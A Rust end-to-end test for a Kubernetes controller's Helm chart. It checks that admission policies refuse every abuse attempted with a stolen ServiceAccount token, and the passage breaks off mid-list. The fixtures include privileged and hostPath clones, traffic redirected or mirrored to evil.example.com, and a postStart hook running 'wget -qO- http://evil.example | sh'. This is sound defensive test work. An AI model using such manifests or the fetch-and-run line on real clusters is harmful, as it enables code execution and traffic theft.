//! The fences hold against a stolen token (issue 28): acting as the chart's ServiceAccount, every
//! abuse its RBAC would allow is refused by one of the chart's ValidatingAdmissionPolicies, with a
//! message that says why, while the controller, authenticated with a token of that same
//! ServiceAccount, carries the adopt flow (always/never routes included) and its rollback through.
//! docs/threat-model.md lists each right, its fence and this test's line for it.

use std::process::{Command as StdCommand, Stdio};

use serde_json::{Value, json};

use crate::chart::{helm, token_kubeconfig};
use crate::support::{CLONE, Harness, RESTORE_ANNOTATION, ROLE_LABEL, labels, pod_name, pod_of};

/// Uninstalls the release and deletes the namespaces the test made, also when it fails.
struct Cleanup {
    kubectl: String,
    helm: String,
    kubeconfig: std::path::PathBuf,
    release: String,
    namespaces: Vec<String>,
    /// Namespaces (not the test's) where the test created the RecordingCanary `frontend`.
    canaries_in: Vec<String>,
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        for ns in &self.canaries_in {
            let _ = StdCommand::new(&self.kubectl)
                .arg("--kubeconfig")
                .arg(&self.kubeconfig)
                .args([
                    "-n",
                    ns,
                    "delete",
                    "rcanary",
                    "frontend",
                    "--ignore-not-found",
                ])
                .stdin(Stdio::null())
                .output();
        }
        let _ = StdCommand::new(&self.helm)
            .arg("--kubeconfig")
            .arg(&self.kubeconfig)
            .args(["uninstall", &self.release, "-n", &self.namespaces[0]])
            .stdin(Stdio::null())
            .output();
        for ns in &self.namespaces {
            let _ = StdCommand::new(&self.kubectl)
                .arg("--kubeconfig")
                .arg(&self.kubeconfig)
                .args([
                    "delete",
                    "namespace",
                    ns,
                    "--wait=false",
                    "--ignore-not-found",
                ])
                .stdin(Stdio::null())
                .output();
        }
    }
}

/// `obj` as a manifest to create again: without what the API server set.
fn fresh(mut obj: Value) -> Value {
    if let Some(m) = obj["metadata"].as_object_mut() {
        for k in [
            "resourceVersion",
            "uid",
            "creationTimestamp",
            "generation",
            "managedFields",
        ] {
            m.remove(k);
        }
    }
    if let Some(o) = obj.as_object_mut() {
        o.remove("status");
    }
    obj
}

/// `obj` with the value at JSON pointer `at` replaced (or added to its parent object).
fn with(mut obj: Value, at: &str, value: Value) -> Value {
    let (parent, key) = at.rsplit_once('/').expect("a pointer with a parent");
    let p = obj
        .pointer_mut(parent)
        .unwrap_or_else(|| panic!("no {parent} in the object"));
    match p {
        Value::Object(m) => {
            m.insert(key.to_string(), value);
        }
        Value::Array(a) => {
            let i: usize = key.parse().expect("an index");
            a[i] = value;
        }
        other => panic!("{parent} is {other}, not an object or array"),
    }
    obj
}

/// `clone` with a sidecar of Speedscale's image (as its operator injects it) and `security`.
fn with_sidecar(mut clone: Value, security: Value) -> Value {
    clone
        .pointer_mut("/spec/template/spec/containers")
        .and_then(Value::as_array_mut)
        .expect("the clone's containers")
        .push(json!({"name": "goproxy", "image": "gcr.io/speedscale/goproxy:v2", "securityContext": security}));
    clone
}

/// Index of the route named `name` in a VirtualService's `spec.http`.
fn route_index(vs: &Value, name: &str) -> usize {
    vs["spec"]["http"]
        .as_array()
        .and_then(|rs| rs.iter().position(|r| r["name"] == name))
        .unwrap_or_else(|| panic!("no route {name} in {}", vs["spec"]))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_service_account_token_is_refused_every_abuse_with_a_readable_message() {
    let mut h = Harness::start_without_controller("fence").await;
    let ns = h.ns.clone();
    // The release lives in a namespace of its own (the fences keep the controller out of it), and
    // a second namespace holds no RecordingCanary at all.
    let release_ns = format!("{ns}-rel");
    let empty_ns = format!("{ns}-none");
    for n in [&release_ns, &empty_ns] {
        h.k(&["create", "namespace", n]).await;
    }
    let release = ns.clone();
    let _cleanup = Cleanup {
        kubectl: h.env.kubectl.clone(),
        helm: std::env::var("RC_HELM")
            .ok()
            .filter(|s| !s.is_empty())
            .unwrap_or_else(|| "helm".into()),
        kubeconfig: h.env.kubeconfig.clone(),
        release: release.clone(),
        namespaces: vec![release_ns.clone(), empty_ns.clone()],
        canaries_in: vec!["kube-system".into(), release_ns.clone()],
    };
    let chart = concat!(env!("CARGO_MANIFEST_DIR"), "/charts/recording-canary");
    // Namespaced, so that nothing reaches the other tests' namespaces; kube-system and the
    // release namespace are listed, so that RBAC allows there what only the fences refuse.
    helm(
        &h,
        &[
            "install",
            &release,
            chart,
            "-n",
            &release_ns,
            "--set",
            "replicaCount=1",
            "--set",
            "stableLabelPolicy.enabled=false",
            "--set",
            &format!("watchNamespaces={{{ns},{empty_ns},{release_ns},kube-system}}"),
        ],
    )
    .await;
    let sa = format!("{release}-recording-canary");
    let who = format!("system:serviceaccount:{release_ns}:{sa}");

    // The controller runs with a token of that ServiceAccount: the adopt flow with always/never.
    let token = h
        .k(&[
            "-n",
            &release_ns,
            "create",
            "token",
            &sa,
            "--duration",
            "1h",
        ])
        .await;
    let kubeconfig = token_kubeconfig(&h, token.trim());
    let args = [
        "run",
        "--namespace",
        &ns,
        "--leader-elect=true",
        "--lease-namespace",
        &release_ns,
        "--lease-name",
        "recording-canary",
        "--admin-addr",
        "127.0.0.1:0",
    ];
    let controller = h.spawn_controller("sa", &args, &kubeconfig);
    h.apply_example("app.yaml").await;
    h.apply_example("adopt/user-vs-dr.yaml").await;
    let user_vs = h.vs("frontend").await.expect("the user's VirtualService");
    h.apply_example("adopt/canary.yaml").await;
    h.patch_canary(
        "frontend",
        &json!({"spec": {"propagationDelay": "1s",
            "always": [{"headers": {"x-record": {"exact": "1"}}}],
            "never": [{"uri": {"prefix": "/healthz"}}]}}),
    )
    .await;
    h.wait_ready("frontend").await;
    h.wait_status("frontend", "Ready", 10).await;

    let canary = h.canary("frontend").await.expect("the canary");
    let uid = canary["metadata"]["uid"]
        .as_str()
        .expect("canary uid")
        .to_string();
    let clone: Value =
        serde_json::from_str(&h.k(&["get", "deployment", CLONE, "-o", "json"]).await)
            .expect("clone JSON");
    let clone = fresh(clone);
    let vs = h.vs("frontend").await.expect("the split VirtualService");
    let default = route_index(&vs, "default");
    let always = route_index(&vs, "canary-test-rcanary-always");
    let canary_test = route_index(&vs, "canary-test");
    let pods = h.pods(Some("app=frontend")).await;
    let target_pod = pods
        .iter()
        .find(|p| {
            pod_of(p, "frontend") && labels(p).get(ROLE_LABEL).map(String::as_str) == Some("stable")
        })
        .map(pod_name)
        .expect("a target pod labelled stable");
    let clone_pod = pods
        .iter()
        .find(|p| pod_of(p, CLONE))
        .map(pod_name)
        .expect("a clone pod");
    h.k(&[
        "run",
        "bare",
        "--image=registry.example/bare:1",
        "--restart=Never",
    ])
    .await;

    // A RecordingCanary in kube-system and in the release namespace too (anyone allowed to create
    // one there could): the fences still keep the controller out. Its clone manifest carries the
    // uid of the canary of that namespace, so that only the namespace fence has a say.
    let canary_example = crate::support::example("canary.yaml");
    let mut uid_in = std::collections::BTreeMap::new();
    for n in ["kube-system", release_ns.as_str()] {
        h.k(&[
            "-n",
            n,
            "apply",
            "-f",
            canary_example.to_str().expect("utf-8 path"),
        ])
        .await;
        let u = h
            .k(&[
                "-n",
                n,
                "get",
                "rcanary",
                "frontend",
                "-o",
                "jsonpath={.metadata.uid}",
            ])
            .await;
        uid_in.insert(n.to_string(), u);
    }
    let in_ns = |n: &str| {
        let c = with(clone.clone(), "/metadata/namespace", json!(n));
        with(c, "/metadata/ownerReferences/0/uid", json!(uid_in[n]))
    };
    let host = format!("frontend.{ns}.svc.cluster.local");
    let owned_meta = json!({
        "name": "frontend-recording",
        "labels": {"app.kubernetes.io/managed-by": "recording-canary", "recordingcanary.dev/canary": "frontend"},
        "ownerReferences": [{"apiVersion": "recordingcanary.dev/v1alpha1", "kind": "RecordingCanary",
            "name": "frontend", "uid": uid, "controller": true, "blockOwnerDeletion": true}],
    });
    let our_subsets = json!([
        {"name": "rcanary-stable", "labels": {ROLE_LABEL: "stable"}},
        {"name": "rcanary-recording", "labels": {ROLE_LABEL: "recording"}},
    ]);
    let owned_vs = |hosts: Value, gateways: Value| {
        json!({"apiVersion": "networking.istio.io/v1", "kind": "VirtualService", "metadata": owned_meta,
            "spec": {"hosts": hosts, "gateways": gateways,
                "http": [{"route": [{"destination": {"host": host}}]}]}})
    };
    let owned_dr = |host: &str, policy: Value| {
        json!({"apiVersion": "networking.istio.io/v1", "kind": "DestinationRule", "metadata": owned_meta,
            "spec": {"host": host, "trafficPolicy": policy, "subsets": our_subsets}})
    };
    let container = "/spec/template/spec/containers/0";
    let manifests: Vec<(&str, Value)> = vec![
        ("clone-kube-system", in_ns("kube-system")),
        ("clone-own-ns", in_ns(&release_ns)),
        (
            "clone-no-canary",
            with(clone.clone(), "/metadata/namespace", json!(empty_ns)),
        ),
        (
            "plain",
            json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "miner"},
                "spec": {"selector": {"matchLabels": {"app": "miner"}},
                    "template": {"metadata": {"labels": {"app": "miner"}},
                        "spec": {"containers": [{"name": "miner", "image": "registry.example/miner:1"}]}}}}),
        ),
        (
            "clone-image",
            with(
                clone.clone(),
                &format!("{container}/image"),
                json!("registry.example/evil:1"),
            ),
        ),
        (
            "clone-sa",
            with(
                clone.clone(),
                "/spec/template/spec/serviceAccountName",
                json!("admin"),
            ),
        ),
        (
            "clone-hostpath",
            with(
                clone.clone(),
                "/spec/template/spec/volumes",
                json!([{"name": "root", "hostPath": {"path": "/"}}]),
            ),
        ),
        // A sidecar of the allowed injector's image (so that only the privilege is wrong).
        (
            "clone-privileged",
            with_sidecar(clone.clone(), json!({"privileged": true})),
        ),
        (
            "clone-hostnetwork",
            with(
                clone.clone(),
                "/spec/template/spec/hostNetwork",
                json!(true),
            ),
        ),
        (
            "clone-hook",
            with(
                clone.clone(),
                &format!("{container}/lifecycle"),
                json!({"postStart": {"exec": {"command": ["sh", "-c", "wget -qO- http://evil.example | sh"]}}}),
            ),
        ),
        (
            "clone-other-name",
            with(clone.clone(), "/metadata/name", json!("checkout-recording")),
        ),
        (
            "clone-forged-uid",
            with(
                clone.clone(),
                "/metadata/ownerReferences/0/uid",
                json!("00000000-0000-0000-0000-000000000000"),
            ),
        ),
        (
            "vs-star",
            owned_vs(json!(["*"]), json!(["istio-system/ingressgateway"])),
        ),
        (
            "dr-tls",
            owned_dr(&host, json!({"tls": {"mode": "DISABLE"}})),
        ),
        (
            "dr-wildcard",
            owned_dr("*.local", json!({"tls": {"mode": "DISABLE"}})),
        ),
        // What the controller itself writes: these pass the fences.
        ("clone-same", clone.clone()),
        ("vs-own", owned_vs(json!([host]), json!(["mesh"]))),
    ];
    let mut path = std::collections::BTreeMap::new();
    for (name, m) in &manifests {
        let p = h.manifest(name, &m.to_string());
        path.insert(*name, p.to_str().expect("utf-8 path").to_string());
    }
    let create = |name: &str, namespace: &str| -> Vec<String> {
        [
            "-n",
            namespace,
            "create",
            "--dry-run=server",
            "-f",
            &path[name],
        ]
        .map(String::from)
        .to_vec()
    };
    let patch = |what: &str, p: Value| -> Vec<String> {
        ["patch", what, "--type=json", "-p", &p.to_string()]
            .map(String::from)
            .to_vec()
    };
    let http = |i: usize, rest: &str| format!("/spec/http/{i}{rest}");
    let pod = |n: &str| format!("pod/{n}");

    let abuses: Vec<(&str, Vec<String>, String)> = vec![
        (
            "a Deployment in kube-system",
            create("clone-kube-system", "kube-system"),
            "may not write in namespace kube-system".into(),
        ),
        (
            "a Deployment in the controller's own namespace",
            create("clone-own-ns", &release_ns),
            format!("may not write in namespace {release_ns}"),
        ),
        (
            "a clone in a namespace that holds no RecordingCanary",
            create("clone-no-canary", &empty_ns),
            "create-only-in-a-namespace-with-a-recordingcanary".into(),
        ),
        (
            "a Deployment that is not a clone",
            create("plain", &ns),
            "only its clone Deployments".into(),
        ),
        (
            "a clone running another image",
            create("clone-image", &ns),
            "may run only the containers of Deployment frontend".into(),
        ),
        (
            "a clone running as another ServiceAccount",
            create("clone-sa", &ns),
            "must run as the ServiceAccount of Deployment frontend".into(),
        ),
        (
            "a clone with a hostPath volume",
            create("clone-hostpath", &ns),
            "a hostPath volume".into(),
        ),
        (
            "a clone with a privileged container",
            create("clone-privileged", &ns),
            "a privileged container or added capabilities".into(),
        ),
        (
            "a clone on the host's network",
            create("clone-hostnetwork", &ns),
            "host namespaces (hostNetwork, hostPID, hostIPC)".into(),
        ),
        (
            "a clone with a command of its own (a postStart hook)",
            create("clone-hook", &ns),
            "may run only the containers of Deployment frontend".into(),
        ),
        (
            "a clone of the canary under another name",
            create("clone-other-name", &ns),
            "the clone of RecordingCanary frontend is frontend-recording".into(),
        ),
        (
            "a clone with a forged owner uid",
            create("clone-forged-uid", &ns),
            "only with the owner reference of RecordingCanary frontend itself".into(),
        ),
        (
            "the live clone rewritten to another image",
            patch(
                &format!("deployment/{CLONE}"),
                json!([{"op": "replace", "path": format!("{container}/image"), "value": "registry.example/evil:1"}]),
            ),
            "may run only the containers of Deployment frontend".into(),
        ),
        (
            "a user's route pointed at another host",
            patch(
                "virtualservice/frontend",
                json!([{"op": "replace", "path": http(default, "/route/0/destination/host"), "value": "evil.example.com"}]),
            ),
            "never another host".into(),
        ),
        (
            "a mirror to another host",
            patch(
                "virtualservice/frontend",
                json!([{"op": "add", "path": http(default, "/mirrors"), "value": [{"destination": {"host": "evil.example.com"}}]}]),
            ),
            "may add a mirror only to the rcanary-recording subset of a host the route sends to"
                .into(),
        ),
        (
            "a fault injected into a user's route",
            patch(
                "virtualservice/frontend",
                json!([{"op": "add", "path": http(default, "/fault"), "value": {"abort": {"httpStatus": 503, "percentage": {"value": 100}}}}]),
            ),
            "may not add, remove, reorder or change your routes".into(),
        ),
        (
            "a user's route removed",
            patch(
                "virtualservice/frontend",
                json!([{"op": "remove", "path": http(canary_test, "")}]),
            ),
            "may not add, remove, reorder or change your routes".into(),
        ),
        (
            "an inserted route that matches more than the route it copies",
            patch(
                "virtualservice/frontend",
                json!([{"op": "replace", "path": http(always, "/match"), "value": [{"uri": {"prefix": "/"}}]}]),
            ),
            "matches no more than it".into(),
        ),
        (
            "an own VirtualService for * on the ingress gateway",
            create("vs-star", &ns),
            // Two fences refuse it; the API server names the first.
            "names exactly one Service of its namespace | may name only the host".into(),
        ),
        (
            "an own DestinationRule with tls DISABLE",
            create("dr-tls", &ns),
            "sets no TLS but Istio mutual TLS".into(),
        ),
        (
            "an own DestinationRule for *.local",
            create("dr-wildcard", &ns),
            "is for one Service of its namespace | may name only the host".into(),
        ),
        (
            "the stable subset of a user's DestinationRule selecting other pods",
            patch(
                "destinationrule/frontend",
                json!([{"op": "replace", "path": "/spec/subsets/0/labels", "value": {"app": "frontend"}}]),
            ),
            "each selecting only its recordingcanary.dev/role label".into(),
        ),
        (
            "role: stable taken off a live canary's target pod",
            vec!["label".into(), pod(&target_pod), format!("{ROLE_LABEL}-")],
            "it serves the stable subset of RecordingCanary frontend, which is not being deleted"
                .into(),
        ),
        (
            "a clone pod turned stable",
            vec![
                "label".into(),
                pod(&clone_pod),
                format!("{ROLE_LABEL}=stable"),
                "--overwrite".into(),
            ],
            r#"from "recording" to "stable""#.into(),
        ),
        (
            "a pod of no ReplicaSet labelled stable",
            vec!["label".into(), pod("bare"), format!("{ROLE_LABEL}=stable")],
            "may label stable only pods of a ReplicaSet".into(),
        ),
        (
            "a canary's percent changed",
            vec![
                "patch".into(),
                "rcanary/frontend".into(),
                "--type=merge".into(),
                "-p".into(),
                r#"{"spec":{"percent":100}}"#.into(),
            ],
            "may not change the spec of RecordingCanary frontend".into(),
        ),
        (
            "a live canary's finalizer stripped",
            patch(
                "rcanary/frontend",
                json!([{"op": "remove", "path": "/metadata/finalizers"}]),
            ),
            "may remove its finalizer from RecordingCanary frontend only once it is being deleted"
                .into(),
        ),
    ];
    let as_sa = |args: &[String]| -> Vec<String> {
        let mut full = vec!["--as".to_string(), who.clone()];
        full.extend(args.iter().cloned());
        full
    };
    let mut refused = 0;
    for (what, args, says) in &abuses {
        let full = as_sa(args);
        let full: Vec<&str> = full.iter().map(String::as_str).collect();
        let out = h.kubectl(&full).await;
        assert!(
            !out.ok
                && out.stderr.contains("ValidatingAdmissionPolicy")
                && says.split(" | ").any(|s| out.stderr.contains(s)),
            "as the controller's ServiceAccount, `{what}` must be refused by a fence saying \"{says}\"; got {out:?}"
        );
        refused += 1;
        eprintln!("[e2e] {ns}: refused {what}: {}", out.stderr.trim());
    }
    assert!(refused >= 15, "only {refused} abuses tried");

    // What the controller itself writes passes the fences (admission done, the object exists).
    let full = as_sa(&create("clone-same", &ns));
    let same = h
        .kubectl(&full.iter().map(String::as_str).collect::<Vec<_>>())
        .await;
    assert!(
        !same.ok && same.stderr.contains("AlreadyExists"),
        "the controller's own clone, written again, must pass the fences (and then exist already): {same:?}"
    );
    let full = as_sa(&create("vs-own", &ns));
    h.k(&full.iter().map(String::as_str).collect::<Vec<_>>())
        .await;
    h.k(&[
        "--as",
        &who,
        "patch",
        "rcanary/frontend",
        "--subresource=status",
        "--type=merge",
        "-p",
        r#"{"status":{}}"#,
        "--dry-run=server",
    ])
    .await;

    // Nothing of the above changed the canary's world; mode Mirror (mirrors on your routes and
    // on the inserted ones) and the rollback pass the fences.
    h.wait_status("frontend", "Ready", 10).await;
    h.patch_canary(
        "frontend",
        &json!({"spec": {"mode": "Mirror", "acknowledgeMirrorSideEffects": true}}),
    )
    .await;
    h.until(
        "the split to mirror to the clone",
        std::time::Duration::from_secs(60),
        || async {
            let vs = h.vs("frontend").await.ok_or("no VirtualService")?;
            let mirrored = vs["spec"]["http"]
                .as_array()
                .into_iter()
                .flatten()
                .filter(|r| r["mirrors"][0]["destination"]["subset"] == "rcanary-recording")
                .count();
            // default and canary-test mirror 10 %, their two always routes 100 %.
            if mirrored == 4 {
                Ok(())
            } else {
                Err(format!("{mirrored} routes mirror: {}", vs["spec"]["http"]))
            }
        },
    )
    .await;
    h.wait_status("frontend", "Ready", 10).await;
    h.k(&["delete", "rcanary", "frontend", "--timeout=60s"])
        .await;
    let restored = h.vs("frontend").await.expect("the user's VirtualService");
    assert_eq!(
        restored["spec"], user_vs["spec"],
        "the user's routes are back"
    );
    assert!(
        h.deployment(CLONE).await.is_none(),
        "the clone is still there"
    );
    let unlabelled = h
        .pods(Some("app=frontend"))
        .await
        .iter()
        .filter(|p| pod_of(p, "frontend"))
        .all(|p| !labels(p).contains_key(ROLE_LABEL));
    assert!(
        unlabelled,
        "the target's pods keep the role label after the rollback"
    );
    drop(controller);
    h.finish(true).await;
}

/// The stored `rules` of HTTPRoute `route` in `h`'s namespace.
async fn route_rules(h: &Harness, route: &str) -> Vec<Value> {
    let out = h
        .k(&[
            "get",
            "httproute.gateway.networking.k8s.io",
            route,
            "-o",
            "json",
        ])
        .await;
    let route: Value = serde_json::from_str(&out).expect("HTTPRoute JSON");
    route["spec"]["rules"]
        .as_array()
        .cloned()
        .expect("the route's rules")
}

/// `rule` split as the Gateway API router splits it: its backendRef to `frontend` replaced by the
/// canary's two Services at 90/10, the other fields as they were.
fn split_rule(rule: &Value) -> Value {
    let backends: Vec<Value> = rule["backendRefs"]
        .as_array()
        .expect("backendRefs")
        .iter()
        .flat_map(|b| {
            if b["name"] == "frontend" {
                vec![
                    with(b.clone(), "/name", json!("frontend-stable")),
                    with(b.clone(), "/name", json!("frontend-recording")),
                ]
                .into_iter()
                .zip([90, 10])
                .map(|(b, w)| with(b, "/weight", json!(w)))
                .collect()
            } else {
                vec![b.clone()]
            }
        })
        .collect();
    with(rule.clone(), "/backendRefs", json!(backends))
}

/// A rule the router adds ahead of split rule `base` for `spec.always` (`x-record: 1` to the clone).
fn always_rule(base: &Value, name: &str) -> Value {
    let matches: Vec<Value> = base["matches"]
        .as_array()
        .expect("matches")
        .iter()
        .map(|m| {
            let mut headers = m["headers"].as_array().cloned().unwrap_or_default();
            headers.push(json!({"type": "Exact", "name": "x-record", "value": "1"}));
            with(m.clone(), "/headers", json!(headers))
        })
        .collect();
    let mut rule = with(base.clone(), "/name", json!(name));
    rule = with(rule, "/matches", json!(matches));
    with(
        rule,
        "/backendRefs",
        json!([{"group": "", "kind": "Service", "name": "frontend-recording", "port": 80, "weight": 1}]),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stolen_token_is_refused_every_gateway_api_abuse_with_a_readable_message() {
    let h = Harness::start_without_controller("fencegw").await;
    let ns = h.ns.clone();
    let release_ns = format!("{ns}-rel");
    h.k(&["create", "namespace", &release_ns]).await;
    let release = ns.clone();
    let _cleanup = Cleanup {
        kubectl: h.env.kubectl.clone(),
        helm: std::env::var("RC_HELM")
            .ok()
            .filter(|s| !s.is_empty())
            .unwrap_or_else(|| "helm".into()),
        kubeconfig: h.env.kubeconfig.clone(),
        release: release.clone(),
        namespaces: vec![release_ns.clone()],
        canaries_in: vec![],
    };
    let chart = concat!(env!("CARGO_MANIFEST_DIR"), "/charts/recording-canary");
    helm(
        &h,
        &[
            "install",
            &release,
            chart,
            "-n",
            &release_ns,
            "--set",
            "replicaCount=1",
            "--set",
            "stableLabelPolicy.enabled=false",
            "--set",
            &format!("watchNamespaces={{{ns},{release_ns}}}"),
        ],
    )
    .await;
    let who = format!("system:serviceaccount:{release_ns}:{release}-recording-canary");

    // The user's world: the app, a route of theirs for its Service, another Service, a canary
    // (no controller runs: the test writes what the Gateway API router would, as its
    // ServiceAccount).
    h.apply_example("app.yaml").await;
    h.apply_example("../gateway-api/route.yaml").await;
    h.apply_example("canary.yaml").await;
    h.k(&[
        "create",
        "service",
        "clusterip",
        "payments",
        "--tcp=80:8080",
    ])
    .await;
    let payments_route = json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute",
        "metadata": {"name": "payments"},
        "spec": {"parentRefs": [{"group": "", "kind": "Service", "name": "payments"}],
            "rules": [{"backendRefs": [{"name": "payments", "port": 80}]}]}});
    let payments_route = h.manifest("payments-route", &payments_route.to_string());
    h.k(&["apply", "-f", payments_route.to_str().expect("utf-8 path")])
        .await;
    let uid = h
        .k(&[
            "get",
            "rcanary",
            "frontend",
            "-o",
            "jsonpath={.metadata.uid}",
        ])
        .await;
    let owned_meta = |name: &str| {
        json!({
            "name": name,
            "labels": {"app.kubernetes.io/managed-by": "recording-canary", "recordingcanary.dev/canary": "frontend"},
            "ownerReferences": [{"apiVersion": "recordingcanary.dev/v1alpha1", "kind": "RecordingCanary",
                "name": "frontend", "uid": uid, "controller": true, "blockOwnerDeletion": true}],
        })
    };
    let own_service = |name: &str, role: &str| {
        json!({"apiVersion": "v1", "kind": "Service", "metadata": owned_meta(name),
            "spec": {"type": "ClusterIP", "selector": {"app": "frontend", ROLE_LABEL: role},
                "ports": [{"name": "http", "port": 80, "targetPort": 8080}]}})
    };
    let backend = |name: &str, weight: i64| json!({"group": "", "kind": "Service", "name": name, "port": 80, "weight": weight});
    let service_parent = json!({"group": "", "kind": "Service", "name": "frontend", "port": 80});
    let own_route = |parents: Value, rule: Value| {
        json!({"apiVersion": "gateway.networking.k8s.io/v1", "kind": "HTTPRoute",
            "metadata": owned_meta("frontend-recording"),
            "spec": {"parentRefs": parents, "rules": [rule]}})
    };
    let catch_all =
        json!({"backendRefs": [backend("frontend-stable", 90), backend("frontend-recording", 10)]});

    let manifests: Vec<(&str, Value)> = vec![
        ("svc-stable", own_service("frontend-stable", "stable")),
        (
            "svc-recording",
            own_service("frontend-recording", "recording"),
        ),
        (
            "route-own",
            own_route(json!([service_parent]), catch_all.clone()),
        ),
        (
            "svc-no-role",
            with(
                own_service("frontend-stable", "stable"),
                "/spec/selector",
                json!({"app": "frontend"}),
            ),
        ),
        (
            "svc-wrong-role",
            own_service("frontend-stable", "recording"),
        ),
        (
            "svc-only-role",
            with(
                own_service("frontend-stable", "stable"),
                "/spec/selector",
                json!({ROLE_LABEL: "stable"}),
            ),
        ),
        (
            "svc-nodeport",
            with(
                own_service("frontend-stable", "stable"),
                "/spec/type",
                json!("NodePort"),
            ),
        ),
        (
            "svc-external-ips",
            with(
                own_service("frontend-stable", "stable"),
                "/spec/externalIPs",
                json!(["203.0.113.7"]),
            ),
        ),
        (
            "svc-external-name",
            json!({"apiVersion": "v1", "kind": "Service", "metadata": owned_meta("frontend-stable"),
                "spec": {"type": "ExternalName", "externalName": "evil.example.com",
                    "selector": {"app": "frontend", ROLE_LABEL: "stable"}}}),
        ),
        ("svc-other-canary", own_service("checkout-stable", "stable")),
        (
            "svc-forged-uid",
            with(
                own_service("frontend-stable", "stable"),
                "/metadata/ownerReferences/0/uid",
                json!("00000000-0000-0000-0000-000000000000"),
            ),
        ),
        (
            "route-gateway-parent",
            own_route(
                json!([{"name": "public", "namespace": "istio-ingress"}]),
                catch_all.clone(),
            ),
        ),
        (
            "route-other-ns-parent",
            own_route(
                json!([{"group": "", "kind": "Service", "name": "frontend", "namespace": "kube-system"}]),
                catch_all.clone(),
            ),
        ),
        (
            "route-other-parent",
            own_route(
                json!([{"group": "", "kind": "Service", "name": "payments"}]),
                catch_all.clone(),
            ),
        ),
        (
            "route-other-backend",
            own_route(
                json!([service_parent]),
                json!({"backendRefs": [backend("frontend-stable", 90), backend("payments", 10)]}),
            ),
        ),
        (
            "route-rewrite",
            own_route(
                json!([service_parent]),
                json!({"backendRefs": [backend("frontend-stable", 1)],
                    "filters": [{"type": "URLRewrite", "urlRewrite": {"path": {"type": "ReplaceFullPath", "replaceFullPath": "/admin"}}}]}),
            ),
        ),
        (
            "route-other-canary-backend",
            own_route(
                json!([service_parent]),
                json!({"backendRefs": [backend("frontend-stable", 90), backend("checkout-recording", 10)]}),
            ),
        ),
    ];
    let mut path = std::collections::BTreeMap::new();
    for (name, m) in &manifests {
        let p = h.manifest(name, &m.to_string());
        path.insert(*name, p.to_str().expect("utf-8 path").to_string());
    }
    let run_as_sa = |args: Vec<String>| kubectl_as(&h, &who, args);
    let create = |name: &str| -> Vec<String> {
        ["create", "--dry-run=server", "-f", &path[name]]
            .map(String::from)
            .to_vec()
    };
    let route = "httproute.gateway.networking.k8s.io/frontend";
    let merge = |what: &str, p: Value| -> Vec<String> {
        [
            "patch",
            what,
            "--dry-run=server",
            "--type=merge",
            "-p",
            &p.to_string(),
        ]
        .map(String::from)
        .to_vec()
    };

    // What the router writes passes the fences: its two Services, its own route, a split of
    // the user's route with a restore note, always/never rules and a mirror, then the restore.
    for name in ["svc-stable", "svc-recording"] {
        let out = run_as_sa(vec!["create".into(), "-f".into(), path[name].clone()]).await;
        assert!(
            out.ok,
            "the router's own Service {name} must pass the fences: {out:?}"
        );
    }
    let out = run_as_sa(create("route-own")).await;
    assert!(
        out.ok,
        "the router's own HTTPRoute must pass the fences: {out:?}"
    );
    let user_rules = route_rules(&h, "frontend").await;
    let split: Vec<Value> = user_rules.iter().map(split_rule).collect();
    let mut with_modes = split.clone();
    let default = with_modes.len() - 1;
    with_modes[default] = with(
        with_modes[default].clone(),
        "/filters",
        json!([{"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "frontend-recording", "port": 80}, "percent": 20}}]),
    );
    with_modes.push(always_rule(&split[0], "rcanary-always-canary-test"));
    with_modes.push(always_rule(&split[default], "rcanary-always-default"));
    with_modes.push(json!({"name": "rcanary-never-default",
        "matches": [{"path": {"type": "PathPrefix", "value": "/healthz"}}],
        "backendRefs": [backend("frontend-stable", 1)]}));
    let split_patch = |rules: &[Value]| {
        json!({"metadata": {"annotations": {RESTORE_ANNOTATION: "the router's note"}},
            "spec": {"rules": rules}})
    };
    for (what, rules) in [
        ("split", &split),
        ("split with always, never and a mirror", &with_modes),
    ] {
        let mut args = merge(route, split_patch(rules));
        args.retain(|a| a != "--dry-run=server");
        let out = run_as_sa(args).await;
        assert!(
            out.ok,
            "the router's {what} of the user's route must pass the fences: {out:?}"
        );
    }
    let restore = json!({"metadata": {"annotations": {RESTORE_ANNOTATION: null}},
        "spec": {"rules": user_rules}});
    let out = run_as_sa(merge(route, restore)).await;
    assert!(
        out.ok,
        "the router's restore of the user's route must pass the fences: {out:?}"
    );

    // The abuses, on the route as the router left it (split, with its always/never rules).
    let mut pointed_away = with_modes.clone();
    pointed_away[0] = with(
        pointed_away[0].clone(),
        "/backendRefs",
        json!([
            backend("frontend-stable", 90),
            backend("frontend-recording", 10),
            backend("payments", 10)
        ]),
    );
    // The restore, but with another Service put back in the default rule.
    let mut repointed = user_rules.clone();
    repointed[default] = with(
        repointed[default].clone(),
        "/backendRefs",
        json!([backend("payments", 1)]),
    );
    let mut matches_changed = with_modes.clone();
    matches_changed[0] = with(
        matches_changed[0].clone(),
        "/matches",
        json!([{"path": {"type": "PathPrefix", "value": "/"}}]),
    );
    let mut timeout_gone = with_modes.clone();
    if let Some(r) = timeout_gone[0].as_object_mut() {
        r.remove("timeouts");
    }
    let mut header_added = with_modes.clone();
    header_added[0] = with(
        header_added[0].clone(),
        "/filters",
        json!([{"type": "RequestHeaderModifier", "requestHeaderModifier": {"set": [{"name": "x-user", "value": "admin"}]}}]),
    );
    let mut mirror_away = with_modes.clone();
    mirror_away[default] = with(
        mirror_away[default].clone(),
        "/filters",
        json!([{"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "payments", "port": 80}, "percent": 100}}]),
    );
    let mut rule_removed = with_modes.clone();
    rule_removed.remove(0);
    let always_i = with_modes.len() - 3;
    let mut always_wider = with_modes.clone();
    always_wider[always_i] = with(
        always_wider[always_i].clone(),
        "/matches",
        json!([{"path": {"type": "PathPrefix", "value": "/"}}]),
    );
    let mut always_elsewhere = with_modes.clone();
    always_elsewhere[always_i] = with(
        always_elsewhere[always_i].clone(),
        "/backendRefs",
        json!([backend("payments", 1)]),
    );
    let rules = |r: &[Value]| json!({"spec": {"rules": r}});
    let mut args = merge(route, split_patch(&with_modes));
    args.retain(|a| a != "--dry-run=server");
    run_as_sa(args).await;

    let abuses: Vec<(&str, Vec<String>, &str)> = vec![
        (
